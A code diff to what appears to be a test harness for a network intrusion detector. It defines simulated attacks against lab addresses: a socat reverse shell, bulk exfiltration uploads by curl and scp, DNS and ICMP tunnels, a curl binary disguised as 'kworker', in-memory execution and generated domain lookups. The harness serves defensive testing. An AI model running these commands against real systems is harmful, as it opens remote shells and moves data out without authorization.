@@ -9,7 +9,6 @@ import os
 import random
 import shutil
 import sys
-import threading
 import time
 
 import lab
@@ -18,6 +17,7 @@ from lab import S4
 CASES = lab.golden.Cases()
 LEVELS = ["none", "low", "medium", "high", "critical"]
 PYTHON = "/usr/bin/python3"
+BEACON_S = 75
 
 
 def address(i):
@@ -61,7 +61,8 @@ def name_server(n):
 
 
 class Attack:
-    """`least` is the level that the daemon without warm-up must reach; `who` begins the program's file name."""
+    """`least` is the level that the daemon without warm-up must reach within `seconds`; "none": what one detector alone says is
+    below what is ever shown, and is only printed. `who` begins the program's file name."""
 
     def __init__(self, name, run, match, who, detectors, classes, least, seconds, tool=None):
         self.name, self.run, self.match, self.who = name, run, match, who
@@ -143,39 +144,39 @@ def beacon(n):
 def attacks(n, ssh):
     big = os.path.join(n.tmp, "big")
     with open(big, "wb") as f:
-        f.write(os.urandom(80_000_000))
+        f.truncate(130_000_000)
     hidden = os.path.join(n.tmp, ".cache", "kworker")
     shell = f"socat TCP:{address(21)}:4444 EXEC:sh"
     return [
-        Attack("beacon every 2 s", beacon, address(19), "curl", ("beacon", "polling"), ("c2",), "none", 80),
+        Attack("beacon every 2 s", beacon, address(19), "curl", ("beacon", "polling"), ("c2",), "none", 2),
         Attack("socat shell", lambda n: n.start("bash", "-c", shell, ns=n.client, watched=True), address(21), "socat",
                ("shell",), ("c2",), "high", 1),
         Attack("iodine", iodine, "tunnel.example", "iodine", ("dns",), ("exfil", "c2"), "medium", 30, "iodine"),
         Attack("dns2tcp", dns2tcp, "pipes.example", "dns2tcpc", ("dns",), ("exfil", "c2"), "medium", 30, "dns2tcpc"),
         Attack("ptunnel", ptunnel, S4, "ptunnel", ("icmp",), ("exfil", "c2"), "medium", 30, "ptunnel"),
         Attack("an address on a list of Tor's", lambda n: n.run("curl", "-sk", "-m", "5", f"https://{address(14)}/"),
-               address(14), "curl", ("intel",), ("intel", "policy", "c2"), "low", 5),
-        Attack("curl -T, 80 MB", lambda n: upload(n, 8, "curl", "-s", "-T", big, "-H", "Expect:", f"http://{address(15)}:7001/"),
-               address(15), "curl", ("volume",), ("exfil",), "low", 20),
-        Attack("scp, 80 MB", lambda n: upload(n, 40, "bash", "-c", f"scp -O {ssh[4:].replace('-p ', '-P ')} {big} root@{address(16)}:big"),
-               address(16), "ssh", ("volume",), ("exfil",), "low", 20, "scp"),
-        Attack("spam by swaks", spam, address(69), "perl", ("mail",), ("c2",), "low", 60, "swaks"),
+               address(14), "curl", ("intel",), ("intel", "policy", "c2"), "none", 3),
+        Attack("curl -T, 130 MB", lambda n: upload(n, 8, "curl", "-s", "-T", big, "-H", "Expect:", f"http://{address(15)}:7001/"),
+               address(15), "curl", ("volume", "execution", "http"), ("exfil",), "low", 10),
+        Attack("scp, 130 MB", lambda n: upload(n, 40, "bash", "-c", f"scp -O {ssh[4:].replace('-p ', '-P ')} {big} root@{address(16)}:big"),
+               address(16), "ssh", ("volume", "execution"), ("exfil",), "low", 10, "scp"),
+        Attack("spam by swaks", spam, address(69), "perl", ("mail",), ("c2",), "none", 2, "swaks"),
         Attack("a copy of curl in /tmp", lambda n: copied(n, hidden), address(17), "kworker", ("execution",), ("c2",), "low", 5),
         Attack("a program in memory", lambda n: n.python(MEMFD, check=False), address(18), "", ("execution",), ("c2",), "low", 5),
-        Attack("generated names", generated, f"{S4}:53", "dig", ("dga",), ("c2",), "low", 60),
+        Attack("generated names", generated, f"{S4}:53", "dig", ("dga",), ("c2",), "medium", 20),
         Attack("TLS to an address", lambda n: [n.run("curl", "-sk", "-m", "5", f"https://{address(20)}/") for _ in range(3)],
                address(20), "curl", ("naming",), ("c2",), "none", 5),
     ]
 
 
 def judge(a, d, warming):
-    end, f = time.monotonic() + (a.seconds if not os.environ.get("QUICK") else 2), None
+    end, f = time.monotonic() + a.seconds, None
     while time.monotonic() < end:
         f = a.of(d)
         if f and LEVELS.index(f["level"]) >= LEVELS.index(a.least):
             break
         time.sleep(0.1)
-    took = time.monotonic() - end + a.seconds
+    took = time.monotonic() - (end - a.seconds)
     w = a.of(warming)
     text = "not found" if not f else f"{f['level']} {f['class']} {f['score_db']} dB by {f['detector']} of {f['entity']}, {took:.1f} s after"
     print(f"{a.name}: {text}; first day: {w['level'] + ' ' + str(w['score_db']) + ' dB' if w else 'not found'}")
@@ -217,14 +218,13 @@ def main():
             if a.tool and not shutil.which(a.tool):
                 CASES.skip(a.name, f"no {a.tool} here")
                 continue
-            a.thread = threading.Thread(target=attempt, args=(a, n))
             todo.append(a)
+        begin = time.monotonic()
         for a in todo:
-            begin = time.monotonic()
-            a.thread.run()
-            a.ran = time.monotonic() - begin
-            if a.name != "beacon every 2 s":
+            attempt(a, n)
+            if a is not todo[0]:
                 judge(a, d, warming)
+        time.sleep(max(0, begin + BEACON_S - time.monotonic()))
         judge(todo[0], d, warming)
         if "-v" in sys.argv:
             print(d.egret("findings", "--low").stdout)
